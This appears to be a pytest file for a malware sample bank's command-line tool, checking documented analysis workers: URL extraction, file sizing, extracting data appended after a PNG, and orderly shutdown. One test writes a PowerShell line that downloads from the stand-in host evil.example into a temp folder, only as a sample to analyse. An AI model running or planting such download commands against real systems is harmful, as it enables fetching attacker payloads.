"""The workers of docs/workers.md, put into service as the page says. And a worker that is told to stop."""

import os
import secrets
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from cli.conftest import HERE
from cli.program import Program, code_of_the_docs
from kit.bank import V2, Bank, Sample, eventually
from kit.relay import Relay

RULES = f"{V2}/policy/default/rule"


@pytest.fixture
def rule_of_the_docs(bank: Bank, analysts: list[str], monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The rule that the page adds, only while the test lasts: other tests submit scripts, too."""
    assert "urls" in analysts
    monkeypatch.setenv("SAMPLEBANK_URL", bank.url)
    monkeypatch.setenv("SAMPLEBANK_KEY", bank.keys["chief"])
    exec(compile(code_of_the_docs("rule.py"), "docs/workers.md", "exec"), {})  # noqa: S102 - the example is what is tested
    yield
    (rule,) = [one for one in bank.data(bank.get(RULES, limit=0)) if one["name"] == "addresses in scripts"]
    assert bank.delete(f"{RULES}/{rule['id']}").ok


@pytest.mark.usefixtures("rule_of_the_docs")
def test_a_worker_of_ones_own_gets_scripts_by_a_rule_and_lowers_no_verdict(
    local: Program, bank: Bank, tmp_path: Path
) -> None:
    script = tmp_path / "fetch.ps1"
    script.write_text(
        f"Invoke-WebRequest https://evil.example/{secrets.token_hex()} -OutFile $env:TEMP\\x.txt\n" * 5
    )

    local.run("submit", script, "--json")

    sample = Sample(data=script.read_bytes())
    (analysis,) = eventually(lambda: analyses_of(bank, sample, "urls"))
    assert (analysis["analysisScore"], len(analysis["analysisResult"]["addresses"])) == (-1, 1)
    assert [(tag["type"], tag["value"]) for tag in analysis["tags"]] == [("behaviour", "web-addresses")]


def test_the_worker_of_the_docs_in_no_particular_language_works(bank: Bank, tmp_path: Path) -> None:
    for name in ("register.sh", "size.sh"):
        (tmp_path / name).write_text(code_of_the_docs(name))
    subprocess.run(
        ["sh", "register.sh"], cwd=tmp_path, env=access(bank, "chief"), check=True, capture_output=True
    )
    sample, job, _ = bank.planned("size")

    with subprocess.Popen(
        ["sh", "size.sh"],
        cwd=tmp_path,
        env=access(bank, "toiler"),
        stderr=subprocess.PIPE,
        start_new_session=True,
    ) as worker:
        eventually(lambda: bank.job(job)["state"] == "done" or worker.poll() is not None)
        os.killpg(worker.pid, 15)

    (analysis,) = analyses_of(bank, sample, "size")
    assert bank.job(job)["state"] == "done"
    assert (analysis["analysisResult"], analysis["analysisScore"]) == ({"size": len(sample.data)}, -1)


def test_the_worker_with_children_of_the_docs_brings_a_child(
    program: Program, bank: Bank, tmp_path: Path
) -> None:
    (tmp_path / "tails.py").write_text(code_of_the_docs("tails.py"))
    bank.worker(shortName="tails")
    hidden = b"MZ" + secrets.token_bytes(40)
    picture = Sample(data=b"\x89PNG\r\n\x1a\n" + secrets.token_bytes(20) + b"IEND\xaeB`\x82" + hidden)
    bank.submit(picture, metaData=bank.plan("tails"))

    worker = program.start(
        *("worker", "run", "tails:Tails", "--import-from", tmp_path),
        *("--url", bank.url, "--key", bank.keys["chief"]),
    )
    (analysis,) = eventually(lambda: analyses_of(bank, picture, "tails"))
    worker.terminate()
    worker.communicate(timeout=30)

    (child,) = analysis["analysisResult"]["children"]
    assert (child["path"], child["size"], child["outcome"]) == ("tail", len(hidden), "stored")
    assert child["sha256"] == Sample(data=hidden).sha256


def test_a_worker_stops_in_order(program: Program, bank: Bank, relay: Relay) -> None:
    worker = program.start(
        *("worker", "run", "own_analysers:OwnYara", "--import-from", HERE),
        *("--url", relay.url, "--key", bank.keys["chief"]),
    )
    relay.wait_for("/claim$")

    worker.terminate()

    worker.communicate(timeout=30)
    assert worker.returncode == 0


def analyses_of(bank: Bank, sample: Sample, worker: str) -> list[dict[str, Any]]:
    found = bank.get(f"{sample.path}/analysis", limit=0)
    return (
        [one for one in found.json()["data"] or [] if one["userAgent"]["name"] == worker] if found.ok else []
    )


def access(bank: Bank, user: str) -> dict[str, str]:
    return {**os.environ, "SAMPLEBANK_URL": bank.url, "SAMPLEBANK_KEY": bank.keys[user]}
